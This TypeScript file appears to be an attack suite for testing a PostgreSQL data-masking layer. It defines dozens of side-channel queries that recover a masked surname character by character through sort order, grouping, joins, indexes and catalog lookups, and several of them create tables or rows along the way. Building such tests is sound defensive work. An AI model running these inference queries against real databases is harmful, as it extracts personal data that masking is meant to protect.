/**
 * Where a value comes among others that one knows: literals, clear columns, values of one's own in the same column. Each
 * tells whether the masked name comes behind a value of the text's own, which finds it letter by letter.
 */
import type { Attack } from '../attack.ts';
import type { Reply } from '../wire.ts';

const ROW = 'FROM rejestr.pracownicy WHERE id = 5';
const WIDTH = 9;
const cell = ({ rows }: Reply) => rows[0]?.[0];
const is = (value: string) => (reply: Reply) => cell(reply) === value;
const isFirst = is('a');

/** `comesFirst`: the text's own value does. `first` and `again`: before all of it, and before each question. */
const ordered = (
  id: string,
  sql: (value: string) => string,
  comesFirst: (reply: Reply) => boolean = isFirst,
  { first = [], again }: { first?: readonly string[]; again?: (value: string) => string } = {},
): Attack => ({
  id: `order.${id}`,
  infers: true,
  ...(first.length === 0 && again === undefined ? {} : { writes: true }),
  run: async (attacker) => {
    const wire = await attacker.connect();
    for (const one of first) await wire.query(one);
    let text = '';
    for (let at = 0; at < WIDTH; at++) {
      let [low, high] = [32, 126];
      while (low < high) {
        const middle = (low + high) >> 1;
        const value = `${text}${String.fromCharCode(middle + 1)}`.replaceAll("'", "''");
        if (again !== undefined) await wire.query(again(value));
        if (comesFirst(await wire.query(sql(value)))) low = middle + 1;
        else high = middle;
      }
      text += String.fromCharCode(low);
      if (at === 2 && new Set(text).size === 1) break;
    }
    attacker.found.push(text);
  },
});

/** The masked name (`b`) and the text's own value (`a`), in one column. */
const both = (value: string) =>
  `(SELECT nazwisko COLLATE "C" AS m, 'b' AS wer ${ROW} UNION ALL VALUES ('${value}', 'a')) x`;
const outer = (value: string) => `coalesce(p.nazwisko COLLATE "C", '${value}')`;
const JOINED = '(VALUES (5), (0)) v (i) LEFT JOIN rejestr.pracownicy p ON p.id = v.i';
const OWN_ROW = {
  first: [`INSERT INTO rejestr.pracownicy (id, nazwisko) VALUES (999, '')`],
  again: (value: string) => `UPDATE rejestr.pracownicy SET nazwisko = '${value}' WHERE id = 999`,
};
const OWN_ROWS = 'FROM rejestr.pracownicy WHERE id IN (5, 999)';
const own = (id: string, sql: string, comesFirst: (reply: Reply) => boolean) =>
  ordered(`own-row-${id}`, () => sql, comesFirst, OWN_ROW);
const SORTED = { first: ['SET enable_hashagg = off'] };

export const orders: readonly Attack[] = [
  ordered('partition', (value) => `SELECT wer, count(*) OVER (PARTITION BY m) FROM ${both(value)}`),
  ordered('distinct-on-literals', (value) => `SELECT DISTINCT ON (m) wer FROM ${both(value)}`),
  ordered('group', (value) => `SELECT min(wer) FROM ${both(value)} GROUP BY m`, isFirst, SORTED),
  ordered(
    'distinct',
    (value) => `SELECT DISTINCT m, wer FROM ${both(value)}`,
    (reply) => reply.rows[0]?.[1] === 'a',
    SORTED,
  ),
  ordered(
    'union',
    (value) => `SELECT nazwisko COLLATE "C", 'b' ${ROW} UNION VALUES ('${value}', 'a')`,
    (reply) => reply.rows[0]?.[1] === 'a',
    SORTED,
  ),
  ordered(
    'except',
    (value) => `(SELECT * FROM ${both(value)}) EXCEPT SELECT 'z', 'z'`,
    (reply) => reply.rows[0]?.[1] === 'a',
    SORTED,
  ),
  ordered('lower', (value) => `SELECT wer FROM ${both(value)} ORDER BY lower(m) COLLATE "C"`, isFirst),
  ordered('cast', (value) => `SELECT wer FROM ${both(value)} ORDER BY m::varchar`),
  ordered('array-element', (value) => `SELECT wer FROM ${both(value)} GROUP BY wer ORDER BY (array_agg(m))[1]`),
  ordered('coalesce', (value) => `SELECT v.i FROM ${JOINED} ORDER BY ${outer(value)}`, is('0')),
  ordered(
    'coalesce-partition',
    (value) => `SELECT v.i, count(*) OVER (PARTITION BY ${outer(value)}) FROM ${JOINED}`,
    is('0'),
  ),
  ordered(
    'unnest',
    (value) =>
      `SELECT n FROM rejestr.pracownicy, unnest(ARRAY[nazwisko COLLATE "C", '${value}']) WITH ORDINALITY u (v, n) WHERE id = 5 ORDER BY v`,
    is('2'),
  ),
  ordered(
    'case',
    (value) =>
      `SELECT id, rank() OVER (PARTITION BY m) FROM (SELECT id, CASE WHEN id = 5 THEN nazwisko COLLATE "C" ELSE '${value}' END AS m FROM rejestr.pracownicy WHERE id IN (5, 6)) x`,
    is('6'),
  ),
  ordered(
    'array-distinct',
    (value) => `SELECT (array_agg(DISTINCT m))[1] FROM ${both(`${value} zz`)}`,
    (reply) => / ?[zZ]/.test(cell(reply) ?? ''),
  ),
  ordered(
    'percentile',
    (value) => `SELECT percentile_disc(0) WITHIN GROUP (ORDER BY m) FROM ${both(`${value} zz`)}`,
    (reply) => / ?[zZ]/.test(cell(reply) ?? ''),
  ),
  ordered(
    'full-join-using',
    (value) =>
      `SELECT b.i FROM (SELECT nazwisko COLLATE "C" AS m ${ROW}) a FULL JOIN (VALUES ('${value}', 0)) b (m, i) USING (m) ORDER BY m`,
    is('0'),
  ),
  ordered(
    'full-join',
    (value) =>
      `SELECT b.i FROM (SELECT nazwisko COLLATE "C" AS m ${ROW}) a FULL JOIN (VALUES ('${value}', 0)) b (m, i) ON a.m = b.m`,
    is('0'),
    { first: ['SET enable_hashjoin = off'] },
  ),
  ordered(
    'clear-column',
    () =>
      `SELECT wer, count(*) OVER (PARTITION BY m) FROM (SELECT nazwisko COLLATE "C" AS m, 'b' AS wer ${ROW} UNION ALL SELECT wert, 'a' FROM einstellungen WHERE name = 'suche.grenze') x`,
    isFirst,
    { again: (value) => `UPDATE einstellungen SET wert = '${value}' WHERE name = 'suche.grenze'` },
  ),
  own('partition', `SELECT id, count(*) OVER (PARTITION BY nazwisko COLLATE "C") ${OWN_ROWS}`, is('999')),
  own('distinct-on', `SELECT DISTINCT ON (nazwisko COLLATE "C") id ${OWN_ROWS}`, is('999')),
  own(
    'limit',
    `SELECT count(*) FROM (SELECT id ${OWN_ROWS} ORDER BY nazwisko COLLATE "C" LIMIT 1) x WHERE id = 999`,
    is('1'),
  ),
  own(
    'offset',
    `SELECT EXISTS (SELECT 1 FROM (SELECT id ${OWN_ROWS} ORDER BY nazwisko COLLATE "C" OFFSET 1) x WHERE id = 5)`,
    is('t'),
  ),
  own(
    'rank',
    `SELECT sum(CASE WHEN id = 999 THEN n END) FROM (SELECT id, row_number() OVER (ORDER BY nazwisko COLLATE "C") AS n ${OWN_ROWS}) x`,
    is('1'),
  ),
  own(
    'rank-in-order',
    `SELECT n FROM (SELECT id, row_number() OVER (ORDER BY nazwisko COLLATE "C") AS n ${OWN_ROWS}) x ORDER BY id`,
    is('2'),
  ),
  own(
    'join',
    `SELECT count(*) FROM (SELECT id ${OWN_ROWS} ORDER BY nazwisko COLLATE "C" LIMIT 1) x JOIN rejestr.oddzialy o ON o.id = x.id - 998`,
    is('1'),
  ),
  own('label', `SELECT CASE WHEN id = 999 THEN 'a' ELSE 'b' END ${OWN_ROWS} ORDER BY nazwisko COLLATE "C"`, isFirst),
  own(
    'label-exists',
    `SELECT EXISTS (SELECT 1 WHERE p.id = 999) FROM rejestr.pracownicy p WHERE id IN (5, 999) ORDER BY nazwisko COLLATE "C"`,
    is('t'),
  ),
  own(
    'label-filter',
    `SELECT count(*) FILTER (WHERE id = 999) ${OWN_ROWS} GROUP BY nazwisko COLLATE "C" ORDER BY nazwisko COLLATE "C"`,
    is('1'),
  ),
  own(
    'label-joined',
    `SELECT w FROM rejestr.pracownicy p JOIN (VALUES (5, 'b'), (999, 'a')) v (i, w) ON i = id ORDER BY nazwisko COLLATE "C"`,
    isFirst,
  ),
  own(
    'label-of-queries',
    `SELECT 'b', nazwisko COLLATE "C" ${ROW} UNION ALL SELECT 'a', nazwisko FROM rejestr.pracownicy WHERE id = 999 ORDER BY 2`,
    isFirst,
  ),
  ordered(
    'own-row-sequence',
    () => `SELECT setval('atk_q', id) ${OWN_ROWS} ORDER BY nazwisko COLLATE "C" LIMIT 1`,
    is('999'),
    { ...OWN_ROW, first: [...OWN_ROW.first, 'CREATE SEQUENCE atk_q'] },
  ),
  ordered(
    'own-row-stored',
    () => 'SELECT id, n FROM atk_o WHERE id = 999 ORDER BY n DESC LIMIT 1',
    (reply) => Number(reply.rows[0]?.[1]) % 2 === 1,
    {
      first: [...OWN_ROW.first, 'CREATE TABLE atk_o (n serial, id int)'],
      again: (value) =>
        `${OWN_ROW.again(value)}; TRUNCATE atk_o RESTART IDENTITY; INSERT INTO atk_o (id) SELECT id ${OWN_ROWS} ORDER BY nazwisko COLLATE "C"`,
    },
  ),
  ordered('own-copy', () => `SELECT id, count(*) OVER (PARTITION BY nazwisko) FROM atk_o`, is('999'), {
    first: [
      `CREATE TABLE atk_o AS SELECT id, nazwisko COLLATE "C" AS nazwisko ${ROW}`,
      `INSERT INTO atk_o VALUES (999, '')`,
    ],
    again: (value) => `UPDATE atk_o SET nazwisko = '${value}' WHERE id = 999`,
  }),
  ordered('own-copy-index', () => 'SELECT id FROM atk_o WHERE nazwisko IS NOT NULL', is('999'), {
    first: [
      `CREATE TABLE atk_o AS SELECT id, nazwisko COLLATE "C" AS nazwisko ${ROW}`,
      'CREATE INDEX ON atk_o (nazwisko)',
      `INSERT INTO atk_o VALUES (999, '')`,
      'SET enable_seqscan = off',
      'SET enable_bitmapscan = off',
    ],
    again: (value) => `UPDATE atk_o SET nazwisko = '${value}' WHERE id = 999`,
  }),
  ordered('own-copy-covering-index', () => 'SELECT id FROM atk_o', is('999'), {
    first: [
      `CREATE TABLE atk_o AS SELECT id, nazwisko COLLATE "C" AS nazwisko ${ROW}`,
      'CREATE INDEX ON atk_o (nazwisko, id)',
      `INSERT INTO atk_o VALUES (999, '')`,
      'SET enable_seqscan = off',
    ],
    again: (value) => `UPDATE atk_o SET nazwisko = '${value}' WHERE id = 999`,
  }),
  {
    id: 'catalog.definition-by-code',
    run: async (attacker) => {
      const wire = await attacker.connect();
      const texts = new Map<string, number>();
      for (let code = 48; code < 123; code++) {
        const { rows } = await wire.query(`SELECT pg_get_functiondef((1200 + ${code})::oid)`);
        const [text] = rows[0] ?? [];
        if (text) texts.set(text, code);
      }
      let found = '';
      for (let at = 1; at <= 11; at++) {
        const { rows } = await wire.query(
          `SELECT pg_get_functiondef((1200 + ascii(substr(nazwisko, ${at}, 1)))::oid) ${ROW}`,
        );
        found += String.fromCharCode(texts.get(rows[0]?.[0] ?? '') ?? 63);
      }
      attacker.found.push(found);
    },
  },
];
